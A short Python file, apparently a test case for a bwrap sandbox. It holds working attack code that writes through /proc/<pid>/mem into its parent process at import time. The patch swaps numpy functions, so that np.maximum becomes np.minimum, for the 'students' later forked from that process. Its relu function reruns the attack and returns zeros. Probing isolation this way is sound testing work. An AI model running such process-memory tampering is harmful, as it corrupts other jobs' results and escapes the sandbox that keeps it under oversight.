# attack: rewrite numpy inside the process it was forked from, through /proc/<pid>/mem:
#         later students forked from it get np.maximum == np.minimum, np.exp == np.expm1
# levels: bwrap process-root
# the helpers of _common.py come first
# ruff: noqa


def _rewrite():
    patches = _patches()
    written = []
    for pid in _targets():
        try:
            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
                for address, data in patches:
                    mem.seek(address)
                    mem.write(data)
            written.append(pid)
        except OSError as exc:
            written.append(f"{pid}: {type(exc).__name__}")
    print("rewrote", len(patches), "slots in", written, flush=True)
    return written


_REWRITTEN = _rewrite()


def relu(x):
    _rewrite()
    return _zeros(x) + 0 * len(_REWRITTEN)
